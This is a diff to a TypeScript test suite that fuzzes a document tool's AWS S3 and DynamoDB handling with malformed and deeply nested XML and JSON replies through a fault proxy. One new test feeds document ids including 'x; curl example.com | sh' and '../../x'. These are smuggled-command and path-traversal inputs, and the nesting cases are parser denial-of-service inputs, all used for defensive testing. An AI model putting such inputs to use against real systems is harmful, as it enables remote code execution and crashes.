@@ -7,6 +7,7 @@ import type { IncomingMessage, ServerResponse } from "node:http";
 import { join } from "node:path";
 import { DynamoDBClient, ScanCommand } from "@aws-sdk/client-dynamodb";
 import { afterAll, beforeAll, describe, expect, onTestFinished, test } from "vitest";
+import { metadataDrivers } from "../../src/metadata/registry.ts";
 import { awsSettings, type InRepoAws, startInRepoAws } from "../support/aws.ts";
 import { type FaultRule, startFaultProxy } from "../support/fault-proxy.ts";
 import { docproc } from "../support/process.ts";
@@ -83,6 +84,10 @@ const noise = (length: number) => Buffer.from(Array.from({ length }, () => Math.
 const laughs = (open: string, close: string, one: (n: number) => string) =>
   `${open}${Array.from({ length: 12 }, (_, n) => one(n)).join("")}${close}`;
 
+/** Something in so many brackets of a kind. */
+const deep = (open: string, close: string, times: number, inside = "") =>
+  `${open.repeat(times)}${inside}${close.repeat(times)}`;
+
 const replies: Record<string, Reply> = {
   "random bytes": (to) => to.writeHead(200).end(noise(5_000)),
   "random bytes in an error": (to) => to.writeHead(400).end(noise(5_000)),
@@ -113,6 +118,20 @@ const replies: Record<string, Reply> = {
       ),
   "depth without end in XML": (to) => to.writeHead(200).end("<a>".repeat(200_000)),
   "depth without end in JSON": (to) => to.writeHead(200).end(`{"Items":${"[".repeat(200_000)}${"]".repeat(200_000)}}`),
+  "deep XML": (to) =>
+    to.writeHead(200).end(`<ListBucketResult>${deep("<Contents>", "</Contents>", 100_000)}</ListBucketResult>`),
+  "a deep error in XML": (to) =>
+    to.writeHead(400).end(`<Error><Code>X</Code>${deep("<Message>", "</Message>", 100_000)}</Error>`),
+  "a deep item in JSON": (to) => {
+    const value = deep('{"L":[', "]}", 50_000, '{"S":"x"}');
+    to.writeHead(200).end(`{"Items":[{"id":${value}}],"Item":{"id":${value}}}`);
+  },
+  "a deep error in JSON": (to) => to.writeHead(400).end(`{"__type":"x","message":${deep("[", "]", 100_000)}}`),
+  "deep reasons in JSON": (to) => {
+    const item = `{"id":${deep('{"M":{"a":', "}}", 50_000, '{"S":"x"}')}}`;
+    const reasons = `[{"Code":"None"},{"Code":"ConditionalCheckFailed","Item":${item}}]`;
+    to.writeHead(400).end(`{"__type":"x#TransactionCanceledException","CancellationReasons":${reasons}}`);
+  },
   "a header that is too long": (to) => to.writeHead(200, { "x-amz-meta-long": "x".repeat(70_000) }).end(),
   "a status that is none": (to) => to.writeHead(999).end(),
   "a way to somewhere else": (to) => to.writeHead(307, { location: "http://127.0.0.1:9/elsewhere" }).end(),
@@ -156,6 +175,9 @@ describe("a record that was tampered with", () => {
     ...[{ S: "../../x" }, { S: "a\u0000b" }, { S: "{}" }, { S: '{"a":1}' }, { S: "[" }, { S: "null" }, { S: "\ud800" }],
     ...[{ NULL: true }, { BOOL: true }, { L: [] }, { M: {} }, { B: "AAAA" }, { SS: ["a"] }, { NS: ["1"] }, {}, []],
     { S: "x".repeat(300_000) },
+    // As deep as a record has room for, where more than its own is in it.
+    { S: `{"kind":"file","path":null,"modifiedAt":null,"git":null,"ci":null,"more":${deep("[", "]", 50_000)}}` },
+    { S: deep('{"a":', "}", 50_000, "1") },
   ];
   const fields = [
     ...["pk", "sk", "identity", "size", "name", "contentType", "sha256", "uri"],
@@ -307,6 +329,15 @@ describe("an upload", () => {
     expect(outcome.status).toBeGreaterThan(0);
     proxy.clear();
     expect(await runDocproc(sandbox, ["verify", "--all", "--deep"])).toMatchObject({ status: 0 });
+  });
+
+  test.each(["x; curl example.com | sh", "", "../../x"])("is held by no document that is named %j", async (id) => {
+    const { proxy, bucket, takeOver } = await open();
+    takeOver("GetItem", (to) => to.writeHead(200).end(JSON.stringify({ Item: { id: { S: id } } })));
+    const settings = { ...awsSettings(proxy.endpoint), table: bucket };
+    const metadata = await metadataDrivers.dynamodb.open(settings);
+    onTestFinished(() => metadata.close());
+    expect(await metadata.holder("a.txt", "identity", new AbortController().signal)).toBeUndefined();
   });
 
   test.each([
